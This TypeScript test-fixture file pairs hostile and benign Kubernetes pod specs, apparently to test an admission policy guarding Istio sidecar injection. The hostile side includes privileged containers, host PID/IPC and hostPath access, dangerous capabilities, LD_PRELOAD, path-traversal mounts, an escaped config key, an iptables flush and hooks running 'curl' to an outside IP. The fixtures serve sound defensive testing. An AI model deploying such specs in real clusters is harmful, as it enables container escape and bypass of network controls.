import { clientPod } from "./clientPods";
import { type HostileCase } from "./case";
import { app, container, injectedInit, injectedProxy, injectedValidation, type PodFields } from "./objects";

/** What pods of client namespaces try with their node besides its network, and with what the injector adds to them. */
export const clientNodeCases: readonly HostileCase[] = [
    ...nodes().flatMap(([name, message, hostile, benign]) =>
        (["Deployment", "Pod"] as const).map(kind =>
            clientPod("client-host-network", kind, name, 22, message, hostile, benign),
        ),
    ),
    ...privileges().map(([name, message, hostile, benign]) =>
        clientPod("client-network-capabilities", "Pod", name, 4, message, hostile, benign),
    ),
    clientPod(
        "client-network-capabilities",
        "Deployment",
        "privileged-placeholder",
        4,
        "is privileged: container istio-proxy",
        {
            containers: [
                app,
                {
                    name: "istio-proxy",
                    image: "auto",
                    securityContext: { privileged: true, runAsUser: 0 },
                    lifecycle: { postStart: { exec: { command: ["iptables", "-t", "nat", "-F"] } } },
                },
            ],
        },
        { containers: [app, { name: "istio-proxy", image: "auto", resources: { requests: { cpu: "50m" } } }] },
    ),
    ...tampered().map(([name, hostile, benign]) =>
        clientPod(
            "client-proxy-impostor",
            "Pod",
            `tampered-${name}`,
            4,
            "to a container of the injector",
            hostile,
            benign,
        ),
    ),
    ...(["StatefulSet", "DaemonSet"] as const).map(kind =>
        clientPod(
            "client-proxy-impostor",
            kind,
            "tampered-placeholder",
            4,
            "to a container of the injector",
            { containers: [app, { name: "istio-proxy", image: "auto", lifecycle: { preStop: shell() } }] },
            {
                containers: [
                    app,
                    { name: "istio-proxy", image: "auto", lifecycle: { preStop: { sleep: { seconds: 5 } } } },
                ],
            },
        ),
    ),
];

type Try = readonly [name: string, message: string, hostile: PodFields, benign: PodFields];

function nodes(): Try[] {
    const volume = (source: PodFields): PodFields => ({ volumes: [{ name: "v", ...source }] });
    const context = (securityContext: PodFields): PodFields => ({ containers: [{ ...app, securityContext }] });
    return [
        ["host-processes", "uses the node's network or processes: hostPID", { hostPID: true }, { hostPID: false }],
        [
            "host-memory",
            "uses the node's network or processes: hostIPC",
            { hostIPC: true },
            { shareProcessNamespace: true },
        ],
        [
            "host-path",
            "mounts the node's disk: volume v",
            volume({ hostPath: { path: "/run/containerd" } }),
            volume({ emptyDir: { medium: "Memory" } }),
        ],
        [
            "sysctl",
            "sets what holds for the whole node: sysctl kernel.msgmax",
            { securityContext: { sysctls: [{ name: "kernel.msgmax", value: "65536" }] } },
            { securityContext: { sysctls: [{ name: "net.ipv4.ip_unprivileged_port_start", value: "0" }] } },
        ],
        [
            "proc",
            "takes off what confines it to the pod: container app",
            { hostUsers: false, ...context({ procMount: "Unmasked" }) },
            { hostUsers: false, ...context({ procMount: "Default" }) },
        ],
        [
            "system-calls",
            "takes off what confines it to the pod: the pod",
            { securityContext: { seccompProfile: { type: "Unconfined" } } },
            { securityContext: { seccompProfile: { type: "RuntimeDefault" } } },
        ],
    ];
}

function privileges(): Try[] {
    const given = (base: PodFields, ...add: string[]): PodFields => ({
        ...base,
        securityContext: { ...(base.securityContext as PodFields), capabilities: { add } },
    });
    const tproxy = { ...injectedProxy, env: [{ name: "ISTIO_META_INTERCEPTION_MODE", value: "TPROXY" }] };
    const pod = (init: PodFields, proxy: PodFields): PodFields => ({
        initContainers: [init],
        containers: [app, proxy],
    });
    return [
        [
            "privileged-init",
            "is privileged: container istio-init",
            pod({ ...injectedInit, securityContext: { privileged: true } }, injectedProxy),
            pod(injectedInit, injectedProxy),
        ],
        [
            "capability-of-the-sidecar",
            "adds a capability that can undo the capture or reach the node: container istio-proxy",
            pod(injectedInit, given(injectedProxy, "NET_ADMIN")),
            pod(injectedInit, given(tproxy, "NET_ADMIN")),
        ],
        [
            "capability-of-the-validation",
            "container istio-validation",
            pod(given(injectedValidation, "NET_RAW"), injectedProxy),
            pod(injectedValidation, injectedProxy),
        ],
        [
            "another-capability-of-the-init-container",
            "container istio-init",
            pod(given(injectedInit, "NET_ADMIN", "NET_RAW", "SYS_ADMIN"), injectedProxy),
            pod(given(injectedInit, "NET_ADMIN", "NET_RAW"), injectedProxy),
        ],
        [
            "capability-kernel-modules",
            "container app",
            { containers: [given(app, "SYS_MODULE")] },
            { containers: [given(app, "SYS_NICE")] },
        ],
    ];
}

function shell(): PodFields {
    return { exec: { command: ["sh", "-c", "curl https://203.0.113.9"] } };
}

/** Name, hostile pod, benign pod: the true sidecar with something besides. */
function tampered(): [string, PodFields, PodFields][] {
    const proxy = (fields: PodFields, more: PodFields = {}): PodFields => ({
        ...more,
        containers: [app, { ...injectedProxy, ...fields }],
    });
    const agent = (...command: string[]) => ({ exec: { command: ["pilot-agent", ...command] } });
    const files = { volumes: [{ name: "files", configMap: { name: "files" } }] };
    const mounted = (mountPath: string): PodFields => proxy({ volumeMounts: [{ name: "files", mountPath }] }, files);
    const configured = (value: string): PodFields => proxy({ env: [{ name: "PROXY_CONFIG", value }] });
    const ready = { httpGet: { path: "/healthz/ready", port: 15021 } };
    return [
        [
            "post-start",
            proxy({ lifecycle: { postStart: shell() } }),
            proxy({ lifecycle: { postStart: agent("wait") } }),
        ],
        [
            "pre-stop",
            proxy({ lifecycle: { preStop: agent("istio-clean-iptables") } }),
            proxy({ lifecycle: { preStop: agent("request", "--debug-port=15020", "POST", "drain") } }),
        ],
        ["liveness", proxy({ livenessProbe: shell() }), proxy({ readinessProbe: ready })],
        [
            "probe-of-another-host",
            proxy({ startupProbe: { httpGet: { ...ready.httpGet, host: "203.0.113.9" } } }),
            proxy({ startupProbe: ready }),
        ],
        ["mount", mounted("/usr/local/bin"), mounted("/var/run/secrets/istio")],
        // The container runtime cleans the path; the API server does not.
        ["mount-by-dots", mounted("/var/run/secrets/../../../usr/local/bin"), mounted("/var/run/secrets/tokens")],
        ["program", configured('{"binaryPath": "/etc/istio/pod/own"}'), configured('{"concurrency": 2}\n')],
        [
            "program-with-an-escape",
            configured(String.raw`{"binary\u0050ath": "/etc/istio/pod/own"}`),
            configured(String.raw`{"proxyStatsMatcher": {"inclusionRegexps": [".*\\.rq"]}}`),
        ],
        [
            "configuration-of-a-config-map",
            proxy({ env: [{ name: "PROXY_CONFIG", valueFrom: { configMapKeyRef: { name: "files", key: "x" } } }] }),
            configured('{"discoveryAddress": "istiod-canary.istio-system.svc:15012"}'),
        ],
        [
            "library",
            proxy({ env: [{ name: "LD_PRELOAD", value: "/x.so" }] }),
            proxy({ env: [{ name: "ISTIO_META_DNS_CAPTURE", value: "true" }] }),
        ],
        [
            "environment-of-a-config-map",
            proxy({ envFrom: [{ configMapRef: { name: "files" } }] }),
            proxy({ env: [{ name: "ISTIO_META_MESH_ID", value: "acme" }] }),
        ],
        [
            "template",
            proxy({ args: [...injectedProxy.args, "--templateFile=/etc/istio/pod/annotations"] }),
            proxy({ args: [...injectedProxy.args, "--log_as_json"] }),
        ],
        [
            "hook-of-the-validation",
            {
                initContainers: [{ ...injectedValidation, restartPolicy: "Always", lifecycle: { postStart: shell() } }],
                containers: [app, injectedProxy],
            },
            { initContainers: [injectedValidation], containers: [app, injectedProxy] },
        ],
        [
            "a-container-of-another-name",
            proxy({ lifecycle: { postStart: shell() } }),
            { containers: [container("app", { lifecycle: { postStart: shell() } }), injectedProxy] },
        ],
    ];
}
